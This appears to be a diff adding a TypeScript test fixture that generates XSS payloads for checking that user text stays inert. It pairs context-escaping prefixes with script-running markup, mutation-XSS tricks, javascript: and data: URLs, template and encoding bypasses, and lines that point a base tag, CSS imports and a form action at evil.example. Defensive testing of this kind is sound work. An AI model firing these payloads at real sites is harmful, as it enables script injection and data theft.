@@ -1,0 +1,64 @@
+/** What a script that got through would do, wherever it runs: in the page, in a frame of it, or in what it opened. */
+const hit = 'top.__pwned=1'
+
+/** What a text may have to leave first to be markup: an attribute, an element of text alone, a comment, a string. */
+const leaving = [
+  '',
+  '"',
+  "'",
+  '">',
+  "'>",
+  '`',
+  '</title>',
+  '</textarea>',
+  '</style>',
+  '</script>',
+  '-->',
+  ']]>',
+  '</svg>',
+  '</a>',
+  '\\">',
+]
+
+/** Markup that runs a script by itself or when it is touched. */
+const running = [
+  `<script>${hit}</script>`,
+  `<img src=x onerror=${hit}>`,
+  `<svg onload=${hit}>`,
+  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
+  `<iframe srcdoc="<script>${hit}</script>"></iframe>`,
+  `<iframe src="javascript:${hit}"></iframe>`,
+  `<details open ontoggle=${hit}>`,
+  `<a href="javascript:${hit}" autofocus onfocus=${hit}>x</a>`,
+  `<math><mtext></table><mglyph><style><img src=x onerror=${hit}>`,
+  `<object data="javascript:${hit}"></object>`,
+  ` autofocus onfocus=${hit} x=`,
+  `<base href=//evil.example/>`,
+  `<style>@import '//evil.example/x'; *{background:url(//evil.example/y)}</style>`,
+  `<form action=//evil.example/><button formaction="javascript:${hit}">x</button>`,
+]
+
+/** Texts that are no markup, and become a script by being read once too often. */
+const readAgain = [
+  `javascript:${hit}`,
+  `data:text/html,<script>${hit}</script>`,
+  `[x](javascript:${hit})`,
+  `{{constructor.constructor('${hit}')()}}`,
+  `\${${hit}}`,
+  `&lt;script&gt;${hit}&lt;/script&gt;`,
+  `\\u003cscript\\u003e${hit}\\u003c/script\\u003e`,
+  `%3Cscript%3E${hit}%3C/script%3E`,
+  `＜script＞${hit}＜/script＞`,
+  `]});${hit};({[`,
+  `';${hit};'`,
+  `\u2028${hit}\u2028`,
+  `__proto__`,
+  `<!--<script>-->${hit}<!--</script>-->`,
+  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${hit}</x:script>`,
+]
+
+/** Every text that is to stay a text, in groups: a field that holds a whole group is attacked by each text of it. */
+export const hostileTexts: readonly string[][] = [
+  ...leaving.map((before) => running.map((text) => `${before}${text}`)),
+  readAgain,
+]
